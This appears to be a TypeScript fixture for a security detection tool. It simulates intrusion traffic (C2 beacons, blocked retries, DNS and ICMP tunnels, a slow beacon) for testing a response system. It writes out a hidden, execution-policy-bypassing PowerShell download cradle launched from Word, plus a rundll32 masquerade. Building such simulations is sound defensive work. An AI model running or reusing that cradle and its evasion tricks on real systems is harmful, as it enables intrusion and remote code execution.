import { sha1Hex } from '../../src/dev/scenario/stable-hash.js';
import { HOUR, MINUTE, SECOND, type Flow, type SimDestination, type SimDevice, type SimProcess } from './flow.js';
import { image } from './images.js';

/** The C2 address the SOAR blocks in every synthetic scenario. */
export const BLOCKED_C2: SimDestination = { ip: '203.0.113.7', port: 443 };

/** The implant's loader: a PowerShell cradle from a Word macro. */
export const POWERSHELL_IMPLANT: SimProcess = image(
  'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  'powershell.exe -nop -w hidden -ep bypass -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
  'CORP\\user0007',
  'WINWORD.EXE',
);

const RENAMED_PATH = 'C:\\Users\\Public\\Libraries\\OneDriveStandaloneUpdate.exe';

/** rundll32.exe copied to C:\Users\Public and renamed: the same bytes (hash) under a harmless name. */
export const RENAMED_RUNDLL32: SimProcess = {
  ...image(RENAMED_PATH, RENAMED_PATH, 'CORP\\user0007', 'powershell.exe'),
  sha1: sha1Hex('image:c:\\windows\\system32\\rundll32.exe'),
};

/** The implant as it beaconed to its C2 for six hours before the block (baseline only: the block filters it out). */
export function preBlockBeacon(device: SimDevice, process: SimProcess, blockedAt: number): Flow {
  return {
    key: `${device.hostname}:c2-beacon`,
    device,
    process,
    protocol: 'tcp',
    periodMs: MINUTE,
    jitter: 0.1,
    activeFrom: blockedAt - 6 * HOUR,
    activeTo: blockedAt,
    destination: () => BLOCKED_C2,
  };
}

/** The implant still calling its C2 after the block; the firewall drops every attempt. */
export function blockedRetries(device: SimDevice, process: SimProcess, from: number, to: number): Flow {
  return {
    key: `${device.hostname}:c2-retry`,
    device,
    process,
    protocol: 'tcp',
    outcome: 'failure',
    periodMs: 30 * SECOND,
    jitter: 0.2,
    activeFrom: from,
    activeTo: to,
    destination: () => BLOCKED_C2,
  };
}

/** The fallback channel: HTTPS to a new address on 8443. */
export function fallback8443(device: SimDevice, process: SimProcess, from: number): Flow {
  return {
    key: `${device.hostname}:fallback-8443`,
    device,
    process,
    protocol: 'tcp',
    periodMs: 45 * SECOND,
    jitter: 0.15,
    activeFrom: from,
    destination: () => ({ ip: '192.0.2.44', port: 8443 }),
  };
}

/** DNS tunnelling: a query every few seconds straight to the attacker's resolver, each carrying ~200 bytes. */
export function dnsTunnel(device: SimDevice, process: SimProcess, from: number): Flow {
  return {
    key: `${device.hostname}:dns-tunnel`,
    device,
    process,
    protocol: 'udp',
    periodMs: 4 * SECOND,
    jitter: 0.5,
    activeFrom: from,
    destination: () => ({ ip: '198.51.100.53', port: 53 }),
    bytesOut: (slot) => 180 + (slot % 60),
  };
}

/** An ICMP tunnel: echo requests with kilobyte payloads to one outside address. */
export function icmpTunnel(device: SimDevice, process: SimProcess, from: number): Flow {
  return {
    key: `${device.hostname}:icmp-tunnel`,
    device,
    process,
    protocol: 'icmp',
    periodMs: 5 * SECOND,
    jitter: 0.3,
    activeFrom: from,
    destination: () => ({ ip: '198.51.100.99' }),
    bytesOut: (slot) => 1_000 + (slot % 7) * 64,
  };
}

/** A patient beacon: every 20 minutes, up to 5 minutes late, from a process that is on the network anyway. */
export function slowBeacon(device: SimDevice, process: SimProcess, from: number): Flow {
  return {
    key: `${device.hostname}:slow-beacon`,
    device,
    process,
    protocol: 'tcp',
    periodMs: 20 * MINUTE,
    jitter: 0.25,
    activeFrom: from,
    destination: () => ({ ip: '45.77.23.198', port: 443 }),
  };
}
